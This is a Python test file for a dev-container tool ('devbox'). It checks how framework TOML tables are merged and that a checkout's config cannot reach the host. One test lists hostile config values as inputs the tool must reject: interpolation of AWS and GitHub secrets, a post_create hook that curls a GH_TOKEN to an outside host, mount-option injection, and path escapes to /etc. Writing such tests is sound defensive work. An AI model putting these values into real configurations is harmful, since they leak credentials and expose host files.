"""Tables of frameworks laid over each other, and whatever a person may write into one."""

from __future__ import annotations

import copy
import re
import tomllib
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from devbox.errors import ConfigError, ContractError
from devbox.frameworks import load
from devbox.frameworks.model import CheckoutContext
from devbox.frameworks.sources import built_in, overlaid
from devbox.image.names import reference

TABLES = {file.stem: tomllib.loads(file.read_text(encoding="utf-8")) for file in built_in().glob("*.toml")}
VALUES = st.recursive(
    st.booleans() | st.integers(-3, 99) | st.floats(allow_nan=False) | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text("ab{}", max_size=4), inner, max_size=3),
    max_leaves=8,
)
TREES = st.dictionaries(st.sampled_from("abc"), VALUES, max_size=3)


def places(table: Any, at: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Return the path of every value in a table, those in lists too."""
    inner = (
        list(table.items()) if isinstance(table, dict) else list(enumerate(table)) if isinstance(table, list) else []
    )
    return [path for key, value in inner for path in ((*at, key), *places(value, (*at, key)))]


PLACES = [(name, path) for name, table in TABLES.items() for path in places(table)]


@given(st.sampled_from(PLACES), VALUES)
def test_any_value_in_any_place_is_taken_or_told_with_its_key(
    place: tuple[str, tuple[Any, ...]], value: object
) -> None:
    name, path = place
    table = copy.deepcopy(TABLES[name])
    inner: Any = table
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = value
    try:
        found = load.parse(name, table, Path("its.toml"))
    except ConfigError as error:
        assert error.message.startswith("its.toml: ")  # noqa: PT017  # either way is right
        return
    assert {one.name for one in found} == {name}


@given(TREES, TREES)
def test_what_lies_on_top_is_what_counts(below: dict[str, Any], above: dict[str, Any]) -> None:
    merged = overlaid(below, above)
    assert overlaid(below, {}) == below
    assert overlaid({}, above) == above
    assert overlaid(merged, above) == merged
    assert set(merged) == {*below, *above}


@pytest.mark.parametrize(
    ("below", "above", "merged"),
    [
        ({"a": {"x": 1, "y": 2}}, {"a": {"y": 3}}, {"a": {"x": 1, "y": 3}}),
        ({"a": [1, 2]}, {"a": [3]}, {"a": [3]}),
        ({"a": {"x": 1}}, {"a": 3}, {"a": 3}),
        # By name, in the order in which they first stood.
        (
            {"a": [{"name": "p", "x": 1}, {"name": "q"}]},
            {"a": [{"name": "q", "x": 2}, {"name": "r"}]},
            {"a": [{"name": "p", "x": 1}, {"name": "q", "x": 2}, {"name": "r"}]},
        ),
        ({"a": [{"name": "p"}]}, {"a": []}, {"a": []}),
        ({"a": [{"name": "p"}]}, {"a": [{"title": "q"}]}, {"a": [{"title": "q"}]}),
    ],
)
def test_how_tables_and_lists_are_laid_over_each_other(below: Any, above: Any, merged: Any) -> None:
    assert overlaid(below, above) == merged


@pytest.mark.parametrize(
    "line",
    [
        'env = {X = "${localEnv:AWS_SECRET_ACCESS_KEY}"}',
        'env = {X = "${ env:HOME}"}',
        'caches = ["build-aaaaaaaaaaaa"]',
        'variants.other.env = {X = "${localEnv:TOKEN}"}',
        'args = {X = "${localEnv:AWS_SECRET_ACCESS_KEY}"}',
        'post_create = "curl http://elsewhere/${localEnv:GH_TOKEN}"',
        'workspace_path = "/w/${env:GH_TOKEN}"',
        'settings = {"${localEnv:GH_TOKEN}" = "x"}',
        'extensions = ["a.${LocalEnv:GH_TOKEN}"]',
        'workspace_path = "/w,bind-propagation=rshared"',
        'caches = ["ccache,volume-opt=type=none"]',
        'contexts = [{name = "a=https://elsewhere/x.git#", path = "x"}]',
        'contexts = [{name = "checkout", path = "/etc"}]',
        'contexts = [{name = "checkout", path = "../.."}]',
    ],
)
def test_a_checkouts_framework_reaches_nothing_of_the_host(tmp_path: Path, line: str) -> None:
    (tmp_path / "devbox.toml").write_text(f'[frameworks.mine]\nextends = "vllm"\n{line}\n')
    with pytest.raises(ConfigError, match=r"devbox\.toml"):
        load.load("mine", workspace=tmp_path, variant="other" if "variants" in line else None)


def test_a_context_that_is_a_link_out_of_the_checkout_is_refused(tmp_path: Path) -> None:
    checkout, outside = tmp_path / "checkout", tmp_path / "outside"
    checkout.mkdir()
    outside.mkdir()
    (checkout / "requirements").symlink_to(outside)
    part = CheckoutContext("checkout", "requirements")
    with pytest.raises(ContractError, match="leads out of the checkout"):
        part.folder(checkout)
    (checkout / "requirements").unlink()
    assert part.folder(checkout) is None
    (checkout / "requirements").mkdir()
    assert part.folder(checkout) == checkout / "requirements"


def test_what_a_checkouts_rules_make_is_called_otherwise(tmp_path: Path) -> None:
    """No other checkout takes it for devbox's own image, or for that of a checkout with other rules."""
    plain, same, other = (tmp_path / name for name in ("plain", "same", "other"))
    texts = {
        plain: "",
        same: '[frameworks.vllm]\nextends = "vllm"\n',
        other: '[frameworks.vllm]\nextends = "vllm"\nbase_image = "evil:1"\n[frameworks.base]\nextends = "vllm"\n',
    }
    for folder, text in texts.items():
        folder.mkdir()
        (folder / "devbox.toml").write_text(text)
    found = {folder.name: reference(load.load("vllm", "cpu", folder), "devel") for folder in texts}
    assert found["plain"] == found["same"] == "devbox-vllm:cpu-devel"
    assert re.fullmatch(r"devbox-vllm-[0-9a-f]{16}:cpu-devel", found["other"])
    assert not reference(load.load("base", "cpu", other), "devel").startswith("devbox-base:")
    (plain / "devbox.local.toml").write_text('base_image = "evil:1"\n')
    assert reference(load.load("vllm", "cpu", plain), "devel") not in found.values()
    (plain / "devbox.local.toml").write_text('base_image = "package"\n')
    assert reference(load.load("vllm", "cpu", plain), "devel") == found["plain"]
    (other / "devbox.local.toml").write_text('[frameworks.vllm]\nextends = "vllm"\nbase_image = "evil:2"\n')
    assert reference(load.load("vllm", "cpu", other), "devel") not in found.values()
